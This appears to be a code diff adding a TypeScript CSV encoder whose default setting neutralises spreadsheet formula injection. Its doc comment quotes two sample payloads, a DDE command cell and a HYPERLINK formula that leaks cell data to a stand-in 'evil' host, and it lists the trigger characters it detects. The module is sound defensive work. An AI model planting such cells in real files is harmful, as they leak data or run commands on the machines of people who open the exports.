@@ -1,0 +1,215 @@
+/**
+ * The CSV encoder shared by the app's export and the CLI (issue 7, DESIGN.md "CSV export").
+ *
+ * Output format (RFC 4180, with the options of {@link CsvOptions}):
+ *  - fields are separated by the chosen delimiter (`comma` `,`, `semicolon` `;`, `tab` U+0009);
+ *  - records end with CRLF, the last one included;
+ *  - a field is quoted (`"…"`) exactly when it holds the delimiter, a double quote, CR or LF;
+ *    double quotes inside a quoted field are doubled;
+ *  - with `bom`, the file starts with the UTF-8 byte-order mark (EF BB BF) so Excel reads UTF-8.
+ *
+ * Formula-injection neutralisation (OWASP "CSV Injection"), on by default. The exact rule:
+ *  - a **text** cell whose first character is `=`, `+`, `-`, `@`, TAB (U+0009), CR (U+000D) or
+ *    NUL (U+0000) gets a single quote `'` put in front of it, so a spreadsheet shows the text instead
+ *    of evaluating it as a formula (or DDE command). The quote is added before the RFC 4180 quoting,
+ *    so `=1,2` with a comma delimiter becomes `"'=1,2"`.
+ *  - **numbers** (cells that come out of SQLite as INTEGER or REAL, e.g. an order's status code or
+ *    a recipient count) are never changed: `-5` stays `-5`, because a spreadsheet reads it as the
+ *    number it is and a number cannot carry a formula. A *text* cell holding `-5` (a phone number
+ *    field, a zip typed by a person) is neutralised to `'-5`: the encoder cannot tell it from a
+ *    payload such as `-2+3+cmd|' /C calc'!A0`, and text stays text in the spreadsheet either way.
+ *  - Why it exists (shown to people who turn it off): a cell starting with one of these characters
+ *    is run as a formula when the file is opened in Excel, LibreOffice or Google Sheets; a contact
+ *    whose name is `=HYPERLINK("http://evil/?"&A1,"Click")` could leak data or run commands on the
+ *    machine of whoever opens the export. Turn it off only when the file goes to a program, not a
+ *    person, and the exact cell text matters.
+ *
+ * Speed: rows are encoded into one JavaScript string per chunk (about 1 MiB) and written with one
+ * `writeSync` per chunk, so a million-row export makes a few hundred syscalls.
+ */
+import { writeSync } from 'node:fs';
+import type { CsvOptions } from '../../../shared/contract.ts';
+
+/** A cell as it comes out of SQLite (or a column expression). `null`/`undefined` become an empty field. */
+export type CsvValue = string | number | bigint | boolean | null | undefined | Uint8Array;
+
+/** The delimiter characters of {@link CsvOptions.delimiter}. */
+export const CSV_DELIMITERS = { comma: ',', semicolon: ';', tab: '\t' } as const satisfies Record<CsvOptions['delimiter'], string>;
+
+/** The UTF-8 byte-order mark as a string (written as EF BB BF). */
+export const UTF8_BOM = '\uFEFF';
+
+/** The record terminator (RFC 4180 §2.1). */
+export const CSV_LINE_END = '\r\n';
+
+/** Options most people want: comma, no BOM, neutralisation on. */
+export const DEFAULT_CSV_OPTIONS: CsvOptions = { delimiter: 'comma', bom: false, neutralizeFormulas: true };
+
+/** Characters that make a text cell a formula in common spreadsheets (OWASP): = + - @ TAB CR NUL. */
+export const FORMULA_TRIGGER_CHARS = ['=', '+', '-', '@', '\t', '\r', '\0'] as const;
+
+const utf8 = new TextDecoder('utf-8');
+
+/**
+ * True when a text cell would be read as a formula by a spreadsheet: its first character is one of
+ * {@link FORMULA_TRIGGER_CHARS}.
+ */
+export function startsLikeFormula(text: string): boolean {
+  if (text.length === 0) return false;
+  const c = text.charCodeAt(0);
+  return c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0;
+}
+
+/**
+ * Neutralises one text cell: puts `'` in front when {@link startsLikeFormula}; otherwise returns it unchanged.
+ * @param text the cell text (not yet RFC 4180 quoted)
+ */
+export function neutralizeFormula(text: string): string {
+  return startsLikeFormula(text) ? `'${text}` : text;
+}
+
+/** Regex matching any character that forces quoting for the given delimiter. */
+function quoteTrigger(delimiter: string): RegExp {
+  switch (delimiter) {
+    case ',':
+      return /[",\r\n]/;
+    case ';':
+      return /[";\r\n]/;
+    case '\t':
+      return /["\t\r\n]/;
+    default:
+      throw new Error(`unsupported CSV delimiter ${JSON.stringify(delimiter)}`);
+  }
+}
+
+/**
+ * Encodes one cell of a row (no delimiter, no line end).
+ * @param value the cell; text, number, bigint, boolean (`true`/`false`), bytes (read as UTF-8) or null (empty)
+ * @param options the CSV options (delimiter and neutralisation matter here)
+ * @returns the field as it appears in the file
+ */
+export function encodeCsvField(value: CsvValue, options: CsvOptions): string {
+  const delimiter = CSV_DELIMITERS[options.delimiter];
+  return makeFieldEncoder(delimiter, options.neutralizeFormulas)(value);
+}
+
+function makeFieldEncoder(delimiter: string, neutralize: boolean): (value: CsvValue) => string {
+  const mustQuote = quoteTrigger(delimiter);
+  return (value: CsvValue): string => {
+    let text: string;
+    if (typeof value === 'string') {
+      text = value;
+    } else if (value === null || value === undefined) {
+      return '';
+    } else if (typeof value === 'number' || typeof value === 'bigint') {
+      // Numbers never contain a delimiter, quote or line break, and are never neutralised.
+      return String(value);
+    } else if (typeof value === 'boolean') {
+      return value ? 'true' : 'false';
+    } else {
+      text = utf8.decode(value);
+    }
+    if (neutralize && text.length > 0) {
+      const c = text.charCodeAt(0);
+      if (c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0) text = `'${text}`;
+    }
+    return mustQuote.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
+  };
+}
+
+/**
+ * Makes a function that encodes one record (the fields joined by the delimiter, ending in CRLF).
+ * Build it once per export: it keeps the delimiter's regex and the options in a closure.
+ *
+ * For speed the returned function may overwrite cells of the array it is given with their encoded
+ * text (rows from better-sqlite3's `raw()` are fresh arrays, so the export loop passes them as they
+ * are); pass a copy when the array is still needed.
+ */
+export function createCsvRowEncoder(options: CsvOptions): (values: CsvValue[]) => string {
+  const delimiter = CSV_DELIMITERS[options.delimiter];
+  const mustQuote = quoteTrigger(delimiter);
+  const neutralize = options.neutralizeFormulas;
+  return (values: CsvValue[]): string => {
+    const n = values.length;
+    for (let i = 0; i < n; i++) {
+      const v = values[i];
+      if (typeof v === 'string') {
+        if (neutralize) {
+          const c = v.charCodeAt(0); // NaN for ''
+          if (c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0) {
+            const s = `'${v}`;
+            values[i] = mustQuote.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
+            continue;
+          }
+        }
+        if (mustQuote.test(v)) values[i] = `"${v.replaceAll('"', '""')}"`;
+      } else if (typeof v === 'object' && v !== null) {
+        values[i] = encodeCsvField(v, options);
+      }
+      // null/undefined join as '', numbers and bigints as String(v), booleans as true/false.
+    }
+    return values.join(delimiter) + CSV_LINE_END;
+  };
+}
+
+/**
+ * Encodes a whole table in memory (header and rows). For small outputs and tests; exports of any
+ * size go through {@link CsvFileWriter}.
+ * @param header the header cells, or null for no header row
+ * @param rows the records
+ * @param options delimiter, BOM, neutralisation
+ */
+export function encodeCsv(header: readonly string[] | null, rows: Iterable<readonly CsvValue[]>, options: CsvOptions): string {
+  const row = createCsvRowEncoder(options);
+  let out = options.bom ? UTF8_BOM : '';
+  if (header) out += row([...header]);
+  for (const r of rows) out += row([...r]);
+  return out;
+}
+
+/** Default size of the text buffered before one write (characters). */
+export const DEFAULT_CHUNK_CHARS = 1 << 20;
+
+/**
+ * Writes CSV records to an open file descriptor in large chunks (one `writeSync` per
+ * ~{@link DEFAULT_CHUNK_CHARS} characters). Synchronous by design: exports run in the database
+ * worker (or the CLI) next to better-sqlite3, which is synchronous too.
+ *
+ * Call {@link writeRow} per record and {@link flush} at the end; the writer does not own `fd`.
+ */
+export class CsvFileWriter {
+  readonly fd: number;
+  /** UTF-8 bytes written so far (after {@link flush}, every byte of every record). */
+  bytesWritten = 0;
+  readonly #encodeRow: (values: CsvValue[]) => string;
+  readonly #chunkChars: number;
+  #pending = '';
+
+  /**
+   * @param fd a file descriptor open for writing
+   * @param options delimiter, BOM (written at once, before any record), neutralisation
+   * @param chunkChars buffered characters that trigger a write
+   */
+  constructor(fd: number, options: CsvOptions, chunkChars: number = DEFAULT_CHUNK_CHARS) {
+    this.fd = fd;
+    this.#encodeRow = createCsvRowEncoder(options);
+    this.#chunkChars = chunkChars;
+    if (options.bom) this.#pending = UTF8_BOM;
+  }
+
+  /** Adds one record (may overwrite cells of `values`, see {@link createCsvRowEncoder}); writes the buffer when it is full. */
+  writeRow(values: CsvValue[]): void {
+    this.#pending += this.#encodeRow(values);
+    if (this.#pending.length >= this.#chunkChars) this.flush();
+  }
+
+  /** Writes whatever is buffered. */
+  flush(): void {
+    if (this.#pending.length === 0) return;
+    const buffer = Buffer.from(this.#pending, 'utf8');
+    this.#pending = '';
+    let offset = 0;
+    while (offset < buffer.length) offset += writeSync(this.fd, buffer, offset, buffer.length - offset);
+    this.bytesWritten += buffer.length;
+  }
+}
